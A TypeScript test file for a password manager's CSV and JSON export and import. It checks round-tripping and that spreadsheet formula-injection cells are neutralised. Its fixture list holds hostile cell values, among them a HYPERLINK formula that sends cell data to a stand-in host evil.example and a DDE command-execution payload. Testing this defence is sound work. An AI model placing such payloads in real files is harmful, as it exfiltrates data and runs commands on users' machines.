import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { RecordContent } from '../state';
import { neutraliseCell, restoreCell } from './csv-cells';
import { readImportFile } from './import-formats';
import { toExportCsv, toExportJson } from './plain-export';

const NOW = Date.UTC(2026, 11, 6, 9, 30);
const DANGEROUS = ['=HYPERLINK("https://evil.example/?x="&B2,"open")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\tindented', '\rreturn'];

const login = (fields: Partial<Omit<RecordContent & { kind: 'login' }, 'kind'>>): RecordContent => ({
  kind: 'login',
  title: 'Mail',
  username: 'ada@example.com',
  password: 'correct-horse',
  url: 'https://mail.example.com',
  notes: '',
  ...fields,
});

const ITEMS: RecordContent[] = [
  login({ notes: 'line one\nline two, with a comma and "quotes"' }),
  { kind: 'note', title: 'Wi-Fi', body: 'SSID: fakenet\r\nKey: not-a-real-key' },
  ...DANGEROUS.map((value, index) => login({ title: `Hostile ${index}`, username: value, password: value, notes: value })),
  login({ title: "'=already quoted", password: "''+twice", username: "'plain apostrophe", url: "'" }),
  login({ title: 'Accents: café ☕ 𝄞', password: '密码' }),
];

/** The CSV's cells as a spreadsheet would get them (header included). */
const cellsOf = (csv: string): string[][] => Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { header: false, skipEmptyLines: true }).data;

function reimport(name: string, text: string) {
  const file = readImportFile(name, new TextEncoder().encode(text));
  if (file.kind !== 'items') throw new Error('not read as items');
  return file.parsed;
}

describe('CSV cell neutralisation', () => {
  it('prefixes an apostrophe to every cell a spreadsheet would run, and to nothing else', () => {
    for (const value of DANGEROUS) expect(neutraliseCell(value)).toBe(`'${value}`);
    for (const value of ['plain', 'https://x.example', "'quoted", '', ' =spaced', '1+1']) expect(neutraliseCell(value)).toBe(value);
  });

  it('gives back every value it was given, apostrophes included', () => {
    for (const value of [...DANGEROUS, "'=1", "''-1", "'a", "'", 'plain', '']) expect(restoreCell(neutraliseCell(value))).toBe(value);
  });
});

describe('plain CSV export', () => {
  const csv = toExportCsv(ITEMS);

  it('writes the documented columns, a byte order mark and CRLF rows', () => {
    expect(csv.startsWith('\uFEFFkind,title,username,password,url,notes,body\r\n')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(cellsOf(csv)).toHaveLength(ITEMS.length + 1);
  });

  it('leaves no cell starting with = + - @ TAB or CR', () => {
    const cells = cellsOf(csv).flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    // The hostile values are all there, neutralised.
    for (const value of DANGEROUS) expect(cells).toContain(`'${value}`);
  });

  it('round-trips through the importer: every field, line breaks, quotes, accents and apostrophes as they were', () => {
    const parsed = reimport('keyhold-export.csv', csv);
    expect(parsed.format).toBe('keyhold-csv');
    expect(parsed.skipped).toEqual([]);
    expect(parsed.items).toEqual(ITEMS);
  });

  it('drops a conflict copy’s link to a record of this vault', () => {
    const parsed = reimport('x.csv', toExportCsv([{ kind: 'note', title: 'Copy', body: 'b', conflictOf: 'rec_1' }]));
    expect(parsed.items).toEqual([{ kind: 'note', title: 'Copy', body: 'b' }]);
  });
});

describe('plain JSON export', () => {
  it('writes the documented envelope and round-trips through the importer', () => {
    const json = toExportJson([...ITEMS, { kind: 'note', title: 'Copy', body: 'b', conflictOf: 'rec_1' }], NOW);
    expect(JSON.parse(json)).toMatchObject({ format: 'keyhold-export', version: 1, exportedAt: NOW });
    const parsed = reimport('keyhold-export.json', json);
    expect(parsed).toEqual({ format: 'keyhold-json', items: [...ITEMS, { kind: 'note', title: 'Copy', body: 'b' }], converted: 0, skipped: [] });
  });

  it('keeps a note’s location through export and import, and skips a note whose location is out of range', () => {
    const trailhead: RecordContent = { kind: 'note', title: 'Trailhead', body: 'cairn', location: { latitude: -33.87, longitude: 151.21, accuracyMeters: 5 } };
    expect(reimport('keyhold-export.json', toExportJson([trailhead], NOW)).items).toEqual([trailhead]);
    const text = JSON.stringify({ format: 'keyhold-export', version: 1, exportedAt: NOW, items: [{ ...trailhead, location: { latitude: 91, longitude: 0 } }] });
    expect(reimport('x.json', text)).toMatchObject({ items: [], skipped: [{ row: 1, reason: 'The location is not a latitude and longitude in degrees.' }] });
  });

  it('reads an item of an unknown kind as a skip, and a later version as unsupported', () => {
    const text = JSON.stringify({ format: 'keyhold-export', version: 1, exportedAt: NOW, items: [{ kind: 'card', title: 'x' }, ITEMS[0]] });
    expect(reimport('x.json', text)).toMatchObject({ items: [ITEMS[0]], skipped: [{ row: 1, reason: 'The kind is neither login nor note.' }] });
    const later = new TextEncoder().encode(JSON.stringify({ format: 'keyhold-export', version: 2, items: [] }));
    expect(() => readImportFile('x.json', later)).toThrow(expect.objectContaining({ code: 'import_unsupported' }));
  });
});
